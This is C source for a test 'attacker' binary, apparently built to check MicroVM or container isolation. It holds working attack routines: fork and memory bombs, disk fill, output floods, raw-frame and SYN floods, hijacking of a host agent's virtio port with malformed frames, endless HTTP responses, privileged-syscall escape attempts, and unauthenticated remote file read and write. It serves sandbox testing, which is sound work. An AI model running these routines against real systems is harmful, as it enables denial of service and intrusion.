/* An application that attacks: whoever asks it says with what. One static binary, no libc files.
 *
 * On port 8080 a request for /WORD/WORD... is answered with what the attack came to; on port 9000,
 * loopback, the hooks are answered with 200, or as /hooks/HOW says. `attacker do WORD WORD...` does
 * one attack and prints the same, so that a test can show what it does where nothing holds it back.
 *
 *   tcp HOST PORT       what a server there says, or why nothing was heard
 *   udp HOST PORT       the same; groups and broadcast addresses are allowed
 *   arp ADDRESS         "reply" or "silence"
 *   frame HEX COUNT     a frame as it is, so often, on eth0
 *   syns HOST COUNT     begin a connection to each of so many ports, and wait for none
 *   forks COUNT         so many processes that wait, and how many there are
 *   memory MIB          touch so much memory; "held" or "killed"
 *   fill MIB            write so much to /filler, or to the file FILLER; how much it was
 *   flood MIB           so much to stdout in lines of 100 bytes, in the background
 *   lines MIB           the same in empty lines
 *   seize HOW           take the agent's port from it, and write: noise, small, huge, slow, hello
 *   endless HOW PORT    serve on a port from now on: headers, body, continue, or slow
 *   hooks HOW           the hooks are answered in this way from now on
 *   try WHAT            what a container must not do; "it worked" or why not
 *   write PATH VALUE    into a file, with : for / in the path
 *   read PATH           the same
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define LIMIT 1500 /* ms that an attack over the network waits for an answer */
#define ANSWER 65536

static const char *hooks = "well";
static const char *card = "eth0";
static char answer[ANSWER];
static int asker = -1; /* the connection that is answered now */

static const char *why(void) { return strerror(errno); }

static int ready(int fd, short events)
{
    struct pollfd one = {.fd = fd, .events = events};
    return poll(&one, 1, LIMIT) > 0;
}

static socklen_t place(const char *host, int port, struct sockaddr_storage *out)
{
    struct sockaddr_in6 *six = (void *)out;
    struct sockaddr_in *four = (void *)out;
    memset(out, 0, sizeof *out);
    if (inet_pton(AF_INET6, host, &six->sin6_addr) == 1) {
        six->sin6_family = AF_INET6;
        six->sin6_port = htons(port);
        six->sin6_scope_id = if_nametoindex(card);
        return sizeof *six;
    }
    four->sin_family = AF_INET;
    four->sin_port = htons(port);
    inet_pton(AF_INET, host, &four->sin_addr);
    return sizeof *four;
}

static const char *call(int kind, const char *host, const char *port)
{
    struct sockaddr_storage to;
    socklen_t size = place(host, atoi(port), &to);
    int one = 1, fd = socket(to.ss_family, kind | SOCK_NONBLOCK, 0);
    const char *said = "silence";
    if (fd < 0)
        return why();
    setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof one);
    if (kind == SOCK_DGRAM) {
        if (sendto(fd, "?", 1, 0, (void *)&to, size) < 0)
            said = why();
    } else if (connect(fd, (void *)&to, size) && errno != EINPROGRESS)
        said = why();
    else if (ready(fd, POLLOUT) && send(fd, "?", 1, MSG_NOSIGNAL) < 0)
        said = why();
    if (!strcmp(said, "silence") && ready(fd, POLLIN)) {
        ssize_t length = recv(fd, answer, ANSWER - 1, 0);
        if (length < 0)
            said = why();
        else
            answer[length] = 0, said = answer;
    }
    close(fd);
    return said;
}

static int packets(uint16_t type)
{
    struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_protocol = htons(type)};
    int fd = socket(AF_PACKET, SOCK_RAW, htons(type));
    link.sll_ifindex = if_nametoindex(card);
    if (fd >= 0 && bind(fd, (void *)&link, sizeof link)) {
        close(fd);
        return -1;
    }
    return fd;
}

static size_t bytes_of(const char *hex, unsigned char *out, size_t most)
{
    size_t count = 0;
    unsigned byte;
    for (; count < most && sscanf(hex, "%2x", &byte) == 1; hex += 2)
        out[count++] = byte;
    return count;
}

static const char *frame(const char *hex, long count)
{
    unsigned char bytes[2000];
    size_t size = bytes_of(hex, bytes, sizeof bytes);
    int fd = packets(ETH_P_ALL);
    long sent = 0;
    if (fd < 0)
        return why();
    for (; sent < count; sent++)
        if (send(fd, bytes, size, 0) < 0 && errno != ENOBUFS)
            return close(fd), why();
    close(fd);
    snprintf(answer, ANSWER, "sent %ld", sent);
    return answer;
}

static const char *syns(const char *host, long count)
{
    struct sockaddr_storage to;
    for (long port = 1; port <= count; port++) {
        socklen_t size = place(host, port, &to);
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (connect(fd, (void *)&to, size) && errno != EINPROGRESS && errno != ECONNREFUSED)
            return close(fd), why();
        close(fd);
    }
    return "begun";
}

static const char *arp(const char *wanted)
{
    unsigned char asks[42] = {
        255, 255, 255, 255, 255, 255, 2, 0, 0, 0, 0, 2, 8, 6, 0, 1, 8, 0, 6, 4, 0, 1,
        2, 0, 0, 0, 0, 2, 172, 16, 0, 2, 0, 0, 0, 0, 0, 0};
    unsigned char heard[2000];
    int fd = packets(ETH_P_ARP);
    const char *said = "silence";
    if (fd < 0)
        return why();
    inet_pton(AF_INET, wanted, asks + 38);
    if (send(fd, asks, sizeof asks, 0) < 0)
        said = why();
    while (!strcmp(said, "silence") && ready(fd, POLLIN)) {
        ssize_t length = recv(fd, heard, sizeof heard, 0);
        if (length >= 42 && heard[21] == 2 && !memcmp(heard + 28, asks + 38, 4))
            said = "reply";
    }
    close(fd);
    return said;
}

static const char *forks(long wanted)
{
    long made = 0;
    pid_t parent = getpid();
    for (; made < wanted; made++) {
        pid_t child = fork();
        if (child < 0)
            break;
        if (child == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            if (getppid() == parent)
                pause();
            _exit(0);
        }
    }
    snprintf(answer, ANSWER, "%ld", made);
    return answer;
}

static void put(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);
    if (fd >= 0) {
        if (write(fd, text, strlen(text)) < 0)
            perror(path);
        close(fd);
    }
}

static const char *memory(long mib)
{
    int status;
    signal(SIGCHLD, SIG_DFL);
    pid_t child = fork();
    if (child == 0) {
        put("/proc/self/oom_score_adj", "1000");
        for (long i = 0; i < mib; i++) {
            char *piece = mmap(0, 1 << 20, PROT_READ | PROT_WRITE,
                               MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            if (piece == MAP_FAILED)
                _exit(1);
            for (long at = 0; at < 1 << 20; at += 4096)
                piece[at] = 1;
        }
        _exit(0);
    }
    waitpid(child, &status, 0);
    signal(SIGCHLD, SIG_IGN);
    return WIFSIGNALED(status) ? "killed" : WEXITSTATUS(status) ? "refused" : "held";
}

static const char *fill(long mib)
{
    static char piece[1 << 20];
    const char *path = getenv("FILLER");
    int fd = open(path ? path : "/filler", O_CREAT | O_WRONLY | O_TRUNC, 0600);
    long done = 0;
    const char *end = "done";
    memset(piece, 'x', sizeof piece);
    while (done < mib && !strcmp(end, "done")) {
        ssize_t wrote;
        /* What comes after a part of a piece says why there is no more. */
        do
            wrote = write(fd, piece, sizeof piece);
        while (wrote > 0 && wrote < (ssize_t)sizeof piece);
        if (wrote <= 0 || fdatasync(fd))
            end = why();
        else
            done++;
    }
    close(fd);
    snprintf(answer, ANSWER, "%ld %s", done, end);
    return answer;
}

static const char *flood(long mib, size_t line)
{
    static char piece[64000];
    memset(piece, 'x', sizeof piece);
    for (size_t at = line - 1; at < sizeof piece; at += line)
        piece[at] = '\n';
    if (fork() == 0) {
        for (long left = mib * (1 << 20) / (long)sizeof piece; left >= 0; left--)
            if (write(1, piece, sizeof piece) < 0)
                _exit(1);
        _exit(0);
    }
    return "begun";
}

/* The port of the agent by its name, open; -1 if it cannot be had. */
static int open_port(char *device)
{
    char path[400], name[64] = "";
    DIR *ports = opendir("/sys/class/virtio-ports");
    struct dirent *entry;
    int found = -1;
    while (ports && found < 0 && (entry = readdir(ports))) {
        snprintf(path, sizeof path, "/sys/class/virtio-ports/%s/name", entry->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0)
            continue;
        if (read(fd, name, sizeof name - 1) > 0 && !strncmp(name, "microvmd", 8)) {
            snprintf(path, sizeof path, "/sys/class/virtio-ports/%s/device", entry->d_name);
            ssize_t length = readlink(path, device, 200);
            device[length < 0 ? 0 : length] = 0;
            snprintf(path, sizeof path, "/dev/%s", entry->d_name);
            found = open(path, O_RDWR);
        }
        close(fd);
    }
    if (ports)
        closedir(ports);
    return found;
}

static void say(int port, const char *how)
{
    static unsigned char bytes[65536 + 12];
    size_t size = sizeof bytes;
    int slow = !strcmp(how, "slow");
    const unsigned char small[] = {0x56, 0x4d, 1, 5, 1, 0, 0, 0, 0, 0, 0, 0};
    const unsigned char greeting[] = {0x56, 0x4d, 1, 2, 0, 0, 0, 0, 255, 255, 0, 0};
    memset(bytes, 0xff, sizeof bytes);
    if (!strcmp(how, "small"))
        size -= size % 12; /* whole frames only */
    if (strcmp(how, "noise"))
        for (size_t at = 0; at + 12 <= sizeof bytes; at += 12)
            memcpy(bytes + at, strcmp(how, "hello") ? small : greeting, 12);
    if (!strcmp(how, "huge"))
        memcpy(bytes + 8, "\xff\xff\xff\x7f", 4);
    /* A port takes 32 KiB of one write: what is left of a frame comes with the next. */
    for (size_t at = 0;;) {
        ssize_t wrote = write(port, bytes + at, slow ? 1 : size - at);
        if (wrote < 0)
            return;
        at = (at + wrote) % size;
        if (slow)
            usleep(100000);
    }
}

static const char *seize(const char *how)
{
    char device[256] = "", *name;
    int port = open_port(device);
    if (port >= 0)
        return "the agent does not hold it";
    name = strrchr(device, '/');
    if (!name)
        return "no such port";
    put("/sys/bus/virtio/drivers/virtio_console/unbind", name + 1);
    put("/sys/bus/virtio/drivers/virtio_console/bind", name + 1);
    for (int tries = 0; port < 0 && tries < 500; tries++) {
        usleep(10000);
        port = open_port(device);
    }
    if (port < 0)
        return why();
    if (fork() == 0) {
        /* Whoever asked has the answer and hangs up before a MicroVM can be ended for this. */
        while (asker >= 0 && read(asker, answer, ANSWER) > 0)
            ;
        say(port, how);
        _exit(0);
    }
    return "seized";
}

static int listening(int port, in_addr_t where)
{
    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1;
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
    address.sin_addr.s_addr = htonl(where);
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(listener, (void *)&address, sizeof address) || listen(listener, 64)) {
        perror("listen");
        exit(1);
    }
    return listener;
}

/* An answer without an end, until the other side goes. */
static void endless(int connection, const char *how)
{
    static char piece[65536];
    const char *begin = "HTTP/1.1 200 OK\r\n";
    memset(piece, 'x', sizeof piece);
    if (!strcmp(how, "body"))
        begin = "HTTP/1.1 200 OK\r\nContent-Length: 9999999999\r\n\r\n";
    else if (!strcmp(how, "continue")) {
        begin = "";
        for (size_t at = 0; at + 25 <= sizeof piece; at += 25)
            memcpy(piece + at, "HTTP/1.1 100 Continue\r\n\r\n", 25);
    } else
        for (size_t at = 0; at + 16 <= sizeof piece; at += 16)
            memcpy(piece + at, "X-Header: long\r\n", 16);
    if (send(connection, begin, strlen(begin), MSG_NOSIGNAL) < 0)
        return;
    for (size_t at = 0;; at = (at + 1) % sizeof piece) {
        int slow = !strcmp(how, "slow");
        if (send(connection, piece + (slow ? at : 0), slow ? 1 : 65525, MSG_NOSIGNAL) < 0)
            return;
        if (slow)
            usleep(100000);
    }
}

static const char *serve_endless(const char *how, int port)
{
    int listener = listening(port, INADDR_ANY);
    if (fork() == 0)
        for (;;) {
            int connection = accept(listener, 0, 0);
            if (fork() == 0) {
                endless(connection, how);
                _exit(0);
            }
            close(connection);
        }
    close(listener);
    return "begun";
}

static const char *outcome(long result) { return result < 0 ? why() : "it worked"; }

static const char *attempt(const char *what)
{
    if (!strcmp(what, "mount"))
        return outcome(mount("none", "/tmp", "tmpfs", 0, ""));
    if (!strcmp(what, "hostname"))
        return outcome(sethostname("owned", 5));
    if (!strcmp(what, "module"))
        return outcome(syscall(SYS_init_module, "x", 1, ""));
    if (!strcmp(what, "reboot"))
        return outcome(reboot(RB_DISABLE_CAD));
    if (!strcmp(what, "kexec"))
        return outcome(syscall(SYS_kexec_load, 0, 0, 0, 0));
    if (!strcmp(what, "clock")) {
        struct timespec zero = {0, 0};
        return outcome(clock_settime(CLOCK_REALTIME, &zero));
    }
    if (!strcmp(what, "swapon"))
        return outcome(syscall(SYS_swapon, "/app", 0));
    if (!strcmp(what, "bpf")) {
        uint32_t map[16] = {2 /* an array */, 4, 4, 1};
        return outcome(syscall(SYS_bpf, 0 /* make a map */, map, sizeof map));
    }
    if (!strcmp(what, "disk")) {
        mknod("/disk", S_IFBLK | 0600, makedev(254, 16));
        int fd = open("/dev/vdb", O_RDONLY);
        return outcome(fd < 0 ? open("/disk", O_RDONLY) : fd);
    }
    if (!strcmp(what, "files")) {
        struct rlimit most = {4096, 4096};
        return outcome(setrlimit(RLIMIT_NOFILE, &most));
    }
    if (!strcmp(what, "setns"))
        return outcome(setns(open("/proc/1/ns/net", O_RDONLY), CLONE_NEWNET));
    return "no such attempt";
}

static char *path_of(char *word)
{
    for (char *at = word; *at; at++)
        if (*at == ':')
            *at = '/';
    return word;
}

static const char *content(const char *path)
{
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return why();
    ssize_t length = read(fd, answer, ANSWER - 1);
    close(fd);
    if (length < 0)
        return why();
    answer[length] = 0;
    return answer;
}

static const char *written(const char *path, const char *value)
{
    int fd = open(path, O_WRONLY);
    if (fd < 0)
        return why();
    long result = write(fd, value, strlen(value));
    const char *said = outcome(result);
    close(fd);
    return said;
}

static const char *attack(int count, char **words)
{
    static char none[1] = "";
    char *what = count > 0 ? words[0] : none, *one = count > 1 ? words[1] : none;
    char *two = count > 2 ? words[2] : none;
    if (!strcmp(what, "tcp") || !strcmp(what, "udp"))
        return call(*what == 't' ? SOCK_STREAM : SOCK_DGRAM, one, two);
    if (!strcmp(what, "arp"))
        return arp(one);
    if (!strcmp(what, "frame"))
        return frame(one, *two ? atol(two) : 1);
    if (!strcmp(what, "syns"))
        return syns(one, atol(two));
    if (!strcmp(what, "forks"))
        return forks(atol(one));
    if (!strcmp(what, "memory"))
        return memory(atol(one));
    if (!strcmp(what, "fill"))
        return fill(atol(one));
    if (!strcmp(what, "flood"))
        return flood(atol(one), 100);
    if (!strcmp(what, "lines"))
        return flood(atol(one), 1);
    if (!strcmp(what, "seize"))
        return seize(one);
    if (!strcmp(what, "endless"))
        return serve_endless(one, atoi(two));
    if (!strcmp(what, "hooks"))
        return hooks = strdup(one);
    if (!strcmp(what, "try"))
        return attempt(one);
    if (!strcmp(what, "write"))
        return written(path_of(one), two);
    if (!strcmp(what, "read"))
        return content(path_of(one));
    return "well";
}

static void reply(int connection, const char *said)
{
    char head[128];
    int length = snprintf(head, sizeof head,
        "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %zu\r\n\r\n", strlen(said));
    if (send(connection, head, length, MSG_NOSIGNAL) == length)
        send(connection, said, strlen(said), MSG_NOSIGNAL);
}

static void serve(int connection, int is_hook)
{
    static char text[16384];
    char *words[8];
    int count = 0;
    ssize_t length = read(connection, text, sizeof text - 1);
    if (length <= 0)
        return;
    text[length] = 0;
    if (is_hook) {
        if (!strcmp(hooks, "well"))
            reply(connection, "well");
        else if (fork() == 0) {
            endless(connection, hooks);
            _exit(0);
        }
        return;
    }
    char *path = strchr(text, ' ');
    if (!path || !strchr(path + 1, ' '))
        return;
    *strchr(++path, ' ') = 0;
    for (char *word = strtok(path, "/"); word && count < 8; word = strtok(0, "/"))
        words[count++] = word;
    asker = connection;
    reply(connection, attack(count, words));
}

int main(int count, char **arguments)
{
    setvbuf(stdout, 0, _IOLBF, 0);
    if (count > 2 && !strcmp(arguments[1], "do")) {
        if (getenv("CARD"))
            card = getenv("CARD");
        printf("%s\n", attack(count - 2, arguments + 2));
        return 0;
    }
    signal(SIGCHLD, SIG_IGN);
    /* A bomb takes everything but what is asked for its result. */
    put("/proc/self/oom_score_adj", "-900");
    struct pollfd ends[] = {
        {.fd = listening(9000, INADDR_LOOPBACK), .events = POLLIN},
        {.fd = listening(8080, INADDR_ANY), .events = POLLIN},
    };
    printf("serving\n");
    for (;;) {
        if (poll(ends, 2, -1) < 0)
            return 1;
        for (int i = 0; i < 2; i++)
            if (ends[i].revents & POLLIN) {
                int connection = accept4(ends[i].fd, 0, 0, SOCK_CLOEXEC);
                serve(connection, i == 0);
                close(connection);
            }
    }
}
